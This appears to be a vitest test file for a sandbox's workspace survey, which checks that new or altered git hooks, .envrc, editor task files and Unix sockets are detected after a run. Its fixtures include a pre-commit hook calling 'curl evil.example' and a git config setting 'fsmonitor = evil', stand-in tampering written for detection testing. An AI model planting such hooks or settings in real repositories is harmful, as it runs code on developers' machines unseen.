import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { socketsWithin } from './sockets.ts';
import { changesSince, survey } from './survey.ts';

let root: string;
const servers: net.Server[] = [];
beforeEach(() => void (root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'cordon-survey-')))));
afterEach(async () => {
  for (const server of servers.splice(0)) await new Promise((resolve) => server.close(resolve));
  fs.rmSync(root, { recursive: true, force: true });
});
const place = (name: string): string => path.join(root, name);
const write = (name: string, content: string): void => {
  fs.mkdirSync(path.dirname(place(name)), { recursive: true });
  fs.writeFileSync(place(name), content);
};
const listen = async (name: string): Promise<void> => {
  fs.mkdirSync(path.dirname(place(name)), { recursive: true });
  const server = net.createServer();
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(place(name), resolve));
};

describe('a look at a workspace before and after a run', () => {
  it('sees what was made, changed and removed of what programs execute from it', () => {
    write('.git/hooks/pre-commit', 'exit 0\n');
    write('.envrc', 'export A=1\n');
    write('README.md', 'x\n');
    const before = survey([root]);
    write('.git/hooks/pre-commit', 'curl evil.example\n'); // an old file with other content
    write('.git/hooks/post-checkout', 'x\n');
    write('.vscode/tasks.json', '{}\n');
    write('README.md', 'y\n');
    fs.rmSync(place('.envrc'));
    expect(changesSince(before, survey([root])).executed.sort()).toEqual([place('.git/hooks'), place('.vscode')]);
  });

  it('sees a repository that lies deeper, or is new', () => {
    write('deep/er/project/main.c', '');
    const before = survey([root]);
    write('deep/er/project/.git/hooks/post-checkout', 'x\n');
    write('deep/er/project/.git/config', '[core] fsmonitor = evil\n');
    expect(changesSince(before, survey([root])).executed.sort()).toEqual(
      ['deep/er/project/.git/config', 'deep/er/project/.git/hooks'].map(place),
    );
  });

  it('is the same when nothing happened, or only elsewhere', () => {
    write('.husky/pre-push', 'x\n');
    const before = survey([root]);
    write('src/index.ts', 'x\n');
    expect(changesSince(before, survey([root]))).toEqual({ sockets: [], executed: [] });
  });

  it('follows no link and has an end, however much there is', () => {
    const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'cordon-outside-'));
    fs.mkdirSync(path.join(outside, '.husky'));
    fs.symlinkSync(outside, place('link'));
    fs.symlinkSync(root, place('round'));
    for (let i = 0; i < 60; i += 1) fs.mkdirSync(place(`many/${i}`), { recursive: true });
    write('many/59/.envrc', 'x\n');
    write('.envrc', 'x\n');
    const { executed } = survey([root], 40);
    expect([...executed.keys()]).toEqual([place('.envrc')]);
    fs.rmSync(outside, { recursive: true });
  });

  it('sees sockets by walking, whoever bound them by whatever name', async () => {
    const before = survey([root]);
    await listen('sub/editor.sock');
    expect(changesSince(before, survey([root])).sockets).toEqual([place('sub/editor.sock')]);
  });
});

describe('sockets that are bound within a grant', () => {
  it('are found by the kernel’s list, by their real places', async () => {
    await listen('work/deep/1/2/3/4/5/6/7/fsmonitor.sock');
    await listen('hidden/agent.sock');
    await listen('elsewhere/other.sock');
    fs.symlinkSync(place('work'), place('alias'));
    await listen('alias/by-link.sock');
    const grants = [place('work'), place('hidden')];
    expect(socketsWithin(grants, [place('hidden')]).sort()).toEqual(
      ['work/by-link.sock', 'work/deep/1/2/3/4/5/6/7/fsmonitor.sock'].map(place),
    );
  });

  it('are not what only has the name of one', async () => {
    await listen('work/gone.sock');
    fs.renameSync(place('work/gone.sock'), place('work/renamed.sock'));
    fs.writeFileSync(place('work/gone.sock'), '');
    expect(socketsWithin([place('work')], [])).toEqual([]); // the walk finds the renamed one
    expect([...survey([root]).sockets]).toEqual([place('work/renamed.sock')]);
  });
});
